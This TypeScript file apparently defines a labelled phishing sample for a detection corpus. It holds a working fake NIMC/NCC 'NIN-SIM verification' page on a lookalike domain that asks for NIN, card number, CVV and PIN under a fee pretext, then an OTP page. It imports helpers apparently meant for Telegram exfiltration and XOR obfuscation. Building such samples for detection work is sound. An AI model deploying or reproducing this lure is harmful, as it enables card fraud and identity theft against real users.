import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { CSS, LOGO, b64, doc, ipLookup, jsR, tgSend, xorB64, xorDecoder } from '../parts/yv-kit.js';

const ninSim = doc({
  title: 'NIN-SIM Verification | NIMC',
  css: `${CSS.reset}body{background:#fff}.hd{border-bottom:4px solid #008751;padding:10px 20px;display:flex;gap:12px;align-items:center}.c{max-width:480px;margin:20px auto;padding:0 18px}.nets{display:flex;gap:10px;margin:10px 0}.nets label{flex:1;border:2px solid #ddd;border-radius:8px;text-align:center;padding:10px;font-weight:700}${CSS.field}button{width:100%;background:#008751;color:#fff;border:0;padding:14px;border-radius:6px;margin-top:16px}.fee{background:#f7f7f7;padding:12px;border-radius:6px;margin-top:12px;font-size:14px}`,
  body: `<div class="hd">${LOGO.coat}<div><b>National Identity Management Commission</b><br><small>in collaboration with the Nigerian Communications Commission</small></div></div>
<div class="c"><h2>Link your NIN to your SIM</h2><p>Your line will be barred from calls and bank transfers if your NIN is not verified. Select your network:</p>
<form id="n" method="post" action="/verify/card.php">
<div class="nets"><label><input type="radio" name="net" value="mtn" checked> MTN</label><label><input type="radio" name="net" value="airtel"> Airtel</label><label><input type="radio" name="net" value="glo"> Glo</label><label><input type="radio" name="net" value="9mobile"> 9mobile</label></div>
<label>Phone number</label><input name="msisdn" required><label>NIN (11 digits)</label><input name="nin" maxlength="11" required>
<div class="fee">A one-time verification fee of <b>&#8358;100</b> applies. Pay with your debit card below.</div>
<label>Card number</label><input name="pan" required><label>Expiry</label><input name="exp" placeholder="MM/YY"><label>CVV</label><input name="cvv" maxlength="3"><label>Card PIN</label><input name="pin" type="password" maxlength="4">
<button>Verify &amp; Pay &#8358;100</button></form></div>`,
});
const ninOtp = doc({
  title: 'Card Authentication',
  css: `${CSS.reset}.c{max-width:380px;margin:60px auto;border:1px solid #ddd;padding:22px;font-size:14px}${CSS.field}button{background:#008751;color:#fff;border:0;padding:12px 24px;margin-top:14px}`,
  body: `<div class="c"><b>Verve / Mastercard SecureCode</b><p>An OTP has been sent to your phone by your bank. Enter it to authorise &#8358;100.00 to NIMC-NCC VERIFY.</p><form method="post" action="/verify/done.php"><label>OTP</label><input name="otp" maxlength="8"><button>Authorise</button></form></div>`,
});

export const entries: Entry[] = [
  {
  id: 'yv-nimc-nin-sim-fee-card-harvest',
  label: 'phishing',
  kind: 'nin-update-lure',
  url: 'https://nimc-ninverify.gov-ng.site/verify/',
  body: ninSim,
  routes: {
    'nimc-ninverify.gov-ng.site/verify/card.php': redirectRoute(303, 'https://nimc-ninverify.gov-ng.site/verify/otp.html'),
    'nimc-ninverify.gov-ng.site/verify/otp.html': htmlRoute(ninOtp),
  },
},
];
